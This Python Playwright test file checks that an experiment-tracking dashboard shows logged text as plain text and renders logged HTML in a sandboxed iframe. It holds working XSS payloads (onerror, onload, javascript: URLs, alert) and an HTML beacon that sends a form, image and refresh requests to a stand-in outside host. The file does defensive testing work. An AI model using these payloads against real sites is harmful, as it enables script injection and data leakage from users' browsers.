"""Logged text never becomes markup. XSS payloads are logged as every field a user controls, then
every page is opened and every chart hovered: no payload may run, no dialog may open, and the
payloads show as plain text. Logged HTML is shown in a sandboxed iframe: it can neither restyle the
dashboard, run script, submit a form nor fetch from another host.

The SDK refuses some payloads before they reach the store: artifact names, types and aliases (1-128
of ``A-Za-z0-9_.-``), run ids, and reference URIs other than file/s3/http(s)."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from tests.fakes.server import serve

import cairn

from .conftest import SCREENSHOTS

expect = pytest.importorskip("playwright.sync_api").expect
Image = pytest.importorskip("PIL.Image")

# Each payload bumps window.__xss (or opens a dialog) if it is ever parsed as HTML or followed.
IMG = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'
SVG = '"><svg onload=window.__xss=1>'
SCRIPT = "</script><script>window.__xss=1</script>"
ALERT = "<img src=x onerror=alert(1)>"
URL = "javascript:window.__xss=1"
PROJECT = "xss"
# Logged HTML that tries to hide the dashboard, send a form, fetch a beacon and run script.
OUTSIDE = "127.0.0.1:9"
HOSTILE = "<p>hostile</p><style>body{display:none}</style>"
BEACON = (
    "<style>header,main,nav{display:none!important}</style>"
    "<p>Logged text stays readable</p>"
    f'<form action="http://{OUTSIDE}/form" method="post"><input name="a" value="b">'
    '<button type="submit">Send</button></form>'
    f'<img src="http://{OUTSIDE}/beacon" alt="">'
    f'<div style="background:url(http://{OUTSIDE}/background)">styled</div>'
    f'<meta http-equiv="refresh" content="0;url=http://{OUTSIDE}/refresh">'
    "<script>document.forms[0].submit();document.body.append('script ran');"
    "parent.__xss=1</script>"
)
# A page policy like the server's own (frame-src 'self', img-src 'self' data: blob:): the frame
# must work under it and without it.
PAGE_POLICY = (
    "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; "
    "frame-src 'self'; object-src 'none'"
)


@dataclass(frozen=True)
class Payloads:
    store_dir: Path
    runs: list[str]
    sweep: str
    html_run: str


def _log_payloads(store_dir: Path) -> Payloads:
    files = store_dir.parent / "files"
    files.mkdir(parents=True, exist_ok=True)
    (files / "plain.txt").write_text(SCRIPT)
    (files / "table.csv").write_text(f'"{IMG}",b\n"{URL}",2\n')
    runs = []
    for i, name in enumerate((IMG, SVG)):
        config = {SVG: 0.1 * (i + 1), "opt": [IMG, URL][i], "nested": {SCRIPT: i}, "url": URL}
        run = cairn.init(
            project=PROJECT,
            dir=store_dir,
            name=name,
            config=config,
            tags=[IMG, URL, ALERT],
            notes=SCRIPT + URL,
            group=SVG,
            job_type=ALERT,
        )
        print(IMG, SCRIPT)  # the console, shown on the Logs tab
        for step in range(6):
            run.log({IMG: float(step + i), f"{SCRIPT}/{ALERT}": 1.0 / (step + 1 + i)})
        run.summary[SVG] = 1.0 + i
        table = cairn.Table(columns=[IMG, "n", SVG])
        table.add_data(SCRIPT, 1, URL)
        table.add_data(URL, 2, ALERT)
        curve = cairn.Table(columns=[IMG, SVG, ALERT])
        for x, y, series in (
            (1.0, 2.0, SCRIPT),
            (2.0, 3.0, SCRIPT),
            (1.0, 1.0, IMG),
            (2.0, 0.5, IMG),
        ):
            curve.add_data(x, y, series)
        bars = cairn.Table(columns=["label", "value"])
        bars.add_data(IMG, 1.0)
        bars.add_data(SCRIPT, 2.0)
        truth = np.array([0, 1, 2, 2, 1, 0])
        probas = np.eye(3)[truth] * 0.6 + np.random.default_rng(i).uniform(0, 0.4, (6, 3))
        pixels = np.full((16, 16, 3), 200, dtype=np.uint8)
        run.log(
            {
                f"table{SVG}": table,
                f"hist/{IMG}": cairn.Histogram(np.random.default_rng(i).normal(size=200)),
                "html": cairn.Html(f"<b>{IMG}</b>{SCRIPT}{SVG}"),
                "text": cairn.Text(IMG + SCRIPT),
                "image": cairn.Image(pixels, caption=IMG),
                "confusion": cairn.plot.confusion_matrix(truth, truth[::-1], [IMG, SVG, ALERT]),
                "curve": cairn.plot.line(curve, IMG, SVG, title=SCRIPT),
                "bars": cairn.plot.bar(bars, "label", "value", title=ALERT),
                "roc": cairn.plot.roc_curve(truth, probas, labels=[IMG, SVG, ALERT], title=IMG),
                "pr": cairn.plot.pr_curve(truth, probas, labels=[SCRIPT, URL, IMG], title=SVG),
            }
        )
        if i == 0:
            data = cairn.Artifact("data", type="dataset", description=SCRIPT, metadata={IMG: URL})
            data.add_file(files / "plain.txt", name=IMG)
            data.add_file(files / "table.csv", name=f"dir{SVG}/table.csv")
            run.log_artifact(data)
        else:
            run.use_artifact("data:latest")
        run.finish(quiet=True)
        runs.append(run.id)

    sweep = cairn.sweep(
        {
            "name": SVG,
            "method": "grid",
            "metric": {"name": IMG, "goal": "minimize"},
            "parameters": {ALERT: {"values": [0.1, 0.2]}, "opt": {"values": [SCRIPT, URL]}},
        },
        project=PROJECT,
        dir=store_dir,
    )

    def train() -> None:
        trial = cairn.init(dir=store_dir)
        for step in range(3):
            trial.log({IMG: trial.config[ALERT] + 1 / (step + 1)})
        trial.finish(quiet=True)

    cairn.agent(sweep, function=train, count=4, dir=store_dir)
    cairn.init(project=IMG, dir=store_dir, name=SCRIPT).finish(quiet=True)
    with cairn.init(project="html", dir=store_dir, name="hostile-html") as run:
        run.log({"hostile": cairn.Html(HOSTILE), "beacon": cairn.Html(BEACON)})
    return Payloads(store_dir, runs, sweep, run.id)


@pytest.fixture(scope="module")
def payloads(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Payloads]]:
    with pytest.MonkeyPatch.context() as env:  # the Logs tab shows the captured console
        env.setenv("CAIRN_CAPTURE_CONSOLE", "1")
        logged = _log_payloads(tmp_path_factory.mktemp("e2e_xss") / ".cairn")
    with serve(logged.store_dir) as running:
        yield running.url, logged


# Records the text put into the page, with the data-testids of the node's ancestors, so a test
# can ask what a chart's tooltip showed while the mouse moved.
_PROBE = """
window.__shown = [];
new MutationObserver((records) => {
  for (const record of records) {
    const nodes = record.type === "characterData" ? [record.target] : [...record.addedNodes];
    for (const node of nodes) {
      const text = node.textContent;
      if (!text) continue;
      const ids = [];
      for (let el = node.nodeType === 1 ? node : node.parentElement; el; el = el.parentElement) {
        if (el.dataset && el.dataset.testid) ids.push(el.dataset.testid);
      }
      window.__shown.push([ids, text]);
    }
  }
}).observe(document, { subtree: true, childList: true, characterData: true });
"""


class Guard:
    """Counts dialogs and checks, page by page, that no payload ran."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.dialogs: list[str] = []
        page.add_init_script(_PROBE)
        page.on("dialog", self._dialog)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, where: str) -> None:
        # A canary image fails to load as the payloads' <img src=x> do; once its onerror ran,
        # theirs would have run too.
        self.page.evaluate(
            """() => new Promise((resolve) => {
                const img = new Image();
                img.onload = img.onerror = () => requestAnimationFrame(() => resolve(null));
                img.src = "x?canary=" + Math.random();
            })"""
        )
        assert self.page.evaluate("() => window.__xss") is None, f"a payload ran on {where}"
        assert not self.dialogs, f"a payload opened a dialog on {where}: {self.dialogs}"

    def shown_in(self, testid: str) -> str:
        """All text put into the element `testid` (or its descendants) since the page loaded."""
        entries = self.page.evaluate("() => window.__shown")
        return "\n".join(text for ids, text in entries if testid in ids)


def hover_chart(page: Any, chart: Any, limit: int = 160) -> int:
    """Moves the mouse over the coloured spots of a chart (lines, points, cells, nodes), as a user
    reading values off it would; returns how many spots were hovered."""
    chart.scroll_into_view_if_needed()
    expect(chart).to_be_visible()
    box = chart.bounding_box()
    shot = Image.open(io.BytesIO(chart.screenshot())).convert("RGB")
    cell = 8
    spots: dict[tuple[int, int], tuple[int, int]] = {}
    width, height = shot.size
    pixels = shot.load()
    for y in range(0, height, 2):
        for x in range(0, width, 2):
            r, g, b = pixels[x, y]
            if max(r, g, b) - min(r, g, b) > 50:
                spots.setdefault((x // cell, y // cell), (x, y))
    points = list(spots.values())
    if len(points) > limit:
        points = points[:: len(points) // limit + 1]
    for x, y in points:
        page.mouse.move(box["x"] + x, box["y"] + y)
    page.mouse.move(0, 0)
    return len(points)


def hover_line_charts(page: Any, limit: int) -> int:
    """Moves the mouse across the plot area of the first `limit` line charts (uPlot), once each
    has its lines; returns how many were hovered."""
    panels = page.get_by_test_id("chart-panel")
    expect(panels.first).to_be_visible()
    hovered = 0
    for panel in panels.all()[:limit]:
        panel.scroll_into_view_if_needed()
        expect(panel).to_have_attribute("data-state", "ready")
        box = panel.locator(".u-over").bounding_box()
        for i in range(1, 20):
            page.mouse.move(box["x"] + box["width"] * i / 20, box["y"] + box["height"] / 2)
        page.mouse.move(0, 0)
        hovered += 1
    return hovered


def _run_page(page: Any, url: str, run_id: str) -> None:
    page.goto(f"{url}/p/{PROJECT}/r/{run_id}")
    expect(page.get_by_test_id("tab-overview")).to_be_visible()


def test_payloads_in_every_field_never_run(page: Any, payloads: tuple[str, Payloads]) -> None:
    url, logged = payloads
    guard = Guard(page)

    page.goto(url)
    expect(page.get_by_text(IMG, exact=True)).to_be_visible()  # the payload project, as text
    guard.check("the projects list")

    # The workspace: runs table, line charts of the payload metrics, their tooltips.
    page.goto(f"{url}/p/{PROJECT}")
    expect(page.get_by_test_id("panel-grid")).to_be_visible()
    expect(page.get_by_test_id("run-link").filter(has_text=SVG)).to_have_text(SVG)  # a run name
    assert hover_line_charts(page, 4) > 0
    assert IMG in guard.shown_in("chart-tooltip")
    guard.check("the workspace charts")

    # Analysis: parallel coordinates over the payload config keys, importance.
    page.get_by_role("tab", name="Analysis").click()
    parallel = page.get_by_test_id("parallel-coordinates")
    expect(parallel).to_be_visible()
    assert hover_chart(page, parallel) > 0
    assert SVG in guard.shown_in("parallel-coordinates")
    guard.check("the analysis tab")

    # Compare two payload runs.
    page.goto(f"{url}/p/{PROJECT}/compare?runs={','.join(logged.runs)}")
    expect(page.get_by_test_id("config-diff")).to_contain_text(SCRIPT)
    hover_line_charts(page, 2)
    guard.check("the compare page")
    # Its media, one panel per key naming the payload runs: open every section (they start closed).
    sections = page.get_by_test_id("media-section")
    expect(sections).to_have_count(2)  # "hist" and "Media"; they are not drawn at the same moment
    for section in sections.all():
        section.locator(".cc-section-toggle").click()
        expect(section).to_have_attribute("data-collapsed", "false")
    for chart in page.get_by_test_id("plot-chart").all():
        chart.scroll_into_view_if_needed()
        expect(chart).to_have_attribute("data-rendered", "true")
        hover_chart(page, chart)
    assert SVG in page.get_by_test_id("workspace-media").inner_text()  # a run's name, as text
    guard.check("the compare page's media")

    # Every tab of the run page; every chart on it hovered.
    for run_id in logged.runs:
        _run_page(page, url, run_id)
        expect(page.get_by_test_id("run-notes")).to_contain_text(SCRIPT + URL)
        guard.check("the run overview")
        for tab in ("charts", "media", "logs", "artifacts", "reproducibility", "system"):
            button = page.get_by_test_id(f"tab-{tab}")
            if button.count() == 0:
                continue
            button.click()
            # its body drawn (not "networkidle": a running run's page polls it every 3 s, and
            # under load the polls left no quiet half second in 30 s)
            expect(page.get_by_test_id(TAB_BODIES[tab])).to_be_visible()
            if tab == "charts":
                hover_line_charts(page, 3)
            if tab == "media":
                media = page.get_by_test_id("media-tab")
                expect(media.get_by_test_id("histogram-heatmap")).to_have_attribute(
                    "data-rendered", "true"
                )
                expect(media.get_by_test_id("plot-chart").first).to_have_attribute(
                    "data-rendered", "true"
                )
                for chart in media.locator(".md-echart").all():
                    hover_chart(page, chart, limit=60)
                assert IMG in guard.shown_in("plot-chart")
                expect(media.get_by_test_id("table-panel").first).to_contain_text(SCRIPT)
            if tab == "logs":
                expect(page.get_by_test_id("logs-tab")).to_contain_text(IMG)
            if tab == "artifacts":
                graph = page.get_by_test_id("lineage")
                expect(graph.get_by_test_id("lineage-node").first).to_be_visible()
                for node in graph.get_by_test_id("lineage-node").all():
                    node.hover()
            guard.check(f"the run's {tab} tab")

    # The artifacts page: the version, its payload-named files and their previews, the lineage.
    page.goto(f"{url}/p/{PROJECT}/artifacts?a=data&v=0")
    panel = page.get_by_test_id("version-panel")
    rows = panel.get_by_test_id("file-row")
    expect(rows.first).to_be_visible()
    for row in rows.all():
        row.click()
        expect(panel.get_by_test_id("file-preview")).to_be_visible()
    expect(panel).to_contain_text(IMG)
    for node in page.get_by_test_id("lineage-node").all():
        node.hover()
    guard.check("the artifacts page")

    # The sweeps list and the sweep page: its chart's tooltip carries the payload metric name.
    page.goto(f"{url}/p/{PROJECT}/sweeps")
    expect(page.get_by_test_id("sweep-row")).to_contain_text(SVG)
    guard.check("the sweeps list")
    page.goto(f"{url}/p/{PROJECT}/sweeps/{logged.sweep}")
    chart = page.get_by_test_id("sweep-metric-chart")
    expect(chart).to_have_attribute("data-points", "4")
    assert hover_chart(page, chart) > 0
    guard.check("the sweep page")
    assert IMG in guard.shown_in("sweep-metric-chart"), "no tooltip showed the metric name"
    parallel = page.get_by_test_id("parallel-coordinates")
    assert hover_chart(page, parallel) > 0
    guard.check("the sweep's parallel coordinates")


TAB_BODIES = {
    "charts": "charts-pane",
    "media": "media-tab",
    "logs": "logs-tab",
    "artifacts": "lineage",
    "reproducibility": "repro-tab",
    "system": "system-tab",
}
"""What each tab of the run page draws, to wait for."""

LEGEND_HEIGHT = 30
"""Pixels at the top of the sweep chart that hold its title and legend."""


def test_sweep_tooltip_shows_the_metric_name_as_text(
    page: Any, payloads: tuple[str, Payloads]
) -> None:
    url, logged = payloads
    guard = Guard(page)
    page.goto(f"{url}/p/{PROJECT}/sweeps/{logged.sweep}")
    chart = page.get_by_test_id("sweep-metric-chart")
    expect(chart).to_have_attribute("data-points", "4")
    chart.scroll_into_view_if_needed()
    box = chart.bounding_box()
    shot = Image.open(io.BytesIO(chart.screenshot())).convert("RGB")
    # the trials are the blue dots (below the legend's, which is blue too): hover the middle of
    # the largest blue blob, then again a little aside if the first move showed no tooltip
    blobs: dict[tuple[int, int], list[tuple[int, int]]] = {}
    for y in range(LEGEND_HEIGHT, shot.height):
        for x in range(60, shot.width):
            r, g, b = shot.getpixel((x, y))
            if b > 150 and b - r > 60 and b - g > 30:
                blobs.setdefault((x // 10, y // 10), []).append((x, y))
    assert blobs, "no trial point drawn"
    dot = max(blobs.values(), key=len)
    x = sum(p[0] for p in dot) / len(dot)
    y = sum(p[1] for p in dot) / len(dot)
    tooltip = chart.locator("div", has_text=re.compile(r"^trial \d")).last
    for dx in (0, 1, -1):
        page.mouse.move(box["x"] + x + dx, box["y"] + y)
        if tooltip.is_visible():
            break
    expect(tooltip).to_be_visible()
    expect(tooltip).to_contain_text(f"{IMG}:")
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "xss-sweep-tooltip.png"))
    guard.check("the sweep tooltip")


def _sent(requests: list[Any]) -> list[str]:
    """The requests that left the browser: Chromium announces some fetches that the frame's
    policy then blocks ("csp"); those never leave."""
    for request in requests:
        request.response()  # waits until it finished or failed
    return [f"{r.url} ({r.failure})" for r in requests if r.failure != "csp"]


@pytest.mark.parametrize("page_policy", [None, PAGE_POLICY], ids=["no-page-policy", "page-policy"])
def test_logged_html_is_shown_sandboxed(
    page: Any, payloads: tuple[str, Payloads], page_policy: str | None
) -> None:
    url, logged = payloads
    guard = Guard(page)
    outbound: list[Any] = []
    page.on("request", lambda r: outbound.append(r) if OUTSIDE in r.url else None)
    if page_policy:

        def with_policy(route: Any) -> None:
            if route.request.resource_type != "document":
                route.continue_()
                return
            response = route.fetch()
            headers = {**response.headers, "content-security-policy": page_policy}
            route.fulfill(response=response, headers=headers)

        page.route(re.compile(r"/p/html/"), with_policy)
    page.goto(f"{url}/p/html/r/{logged.html_run}")
    page.get_by_test_id("tab-media").click()
    tab = page.get_by_test_id("media-tab")
    panel = tab.locator('[data-testid="other-panel"][data-key="beacon"]')
    expect(panel.get_by_test_id("media-html")).to_have_count(1)
    expect(tab.locator('[data-testid="other-panel"][data-key="hostile"]')).to_have_count(1)

    # The dashboard keeps its own styles: its header, tabs and panels stay visible.
    expect(page.get_by_test_id("topbar")).to_be_visible()
    expect(page.get_by_test_id("tab-media")).to_be_visible()
    expect(tab.locator('[data-testid="other-panel"][data-key="hostile"]')).to_be_visible()
    guard.check("the media tab with logged HTML")
    assert _sent(outbound) == [], "logged HTML sent requests out"

    # The logged text shows inside a frame with every sandbox restriction; no script ran there,
    # and a user sending the form sends nothing.
    frame = panel.frame_locator('[data-testid="media-html"]')
    expect(frame.get_by_text("Logged text stays readable")).to_be_visible()
    expect(frame.get_by_text("styled")).to_be_visible()
    expect(panel.get_by_test_id("media-html")).to_have_attribute("sandbox", "")
    expect(frame.locator("body")).not_to_contain_text("script ran")
    frame.get_by_role("button", name="Send").click()
    guard.check("the media tab after sending the logged form")
    assert _sent(outbound) == [], "logged HTML sent requests out"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    panel.screenshot(path=str(SCREENSHOTS / "xss-html-iframe.png"))


def test_value_panels_show_payload_names_and_keys_as_text(
    page: Any, payloads: tuple[str, Payloads]
) -> None:
    """Scatter and bar panels over payload config and summary keys of runs with payload names: every
    point and bar hovered, the names show in the tooltips as text and nothing runs."""
    url, _ = payloads
    guard = Guard(page)
    page.goto(f"{url}/p/{PROJECT}")
    expect(page.get_by_test_id("panel-grid")).not_to_have_attribute("data-run-count", "0")
    for kind, fields in (
        ("scatter", {"X": f"config.{SVG}", "Y": f"summary.{SVG}"}),
        ("bar", {"Value": f"summary.{SVG}"}),
    ):
        page.get_by_test_id("add-panel").click()
        page.get_by_test_id(f"panel-kind-{kind}").click()
        form = page.get_by_test_id("value-panel-form")
        for label, value in fields.items():
            form.get_by_label(label, exact=True).select_option(value)
        form.get_by_role("button", name="Add panel").click()
        chart = page.locator(f"[data-testid=chart-panel][data-kind={kind}]").get_by_test_id(
            "value-chart"
        )
        expect(chart).to_have_attribute("data-rendered", "true")
        assert hover_chart(page, chart) > 0
        shown = guard.shown_in("value-chart")
        assert IMG in shown and SVG in shown, shown
        guard.check(f"the {kind} panel")
    page.request.put(f"{url}/api/v1/projects/{PROJECT}/workspace", data={})
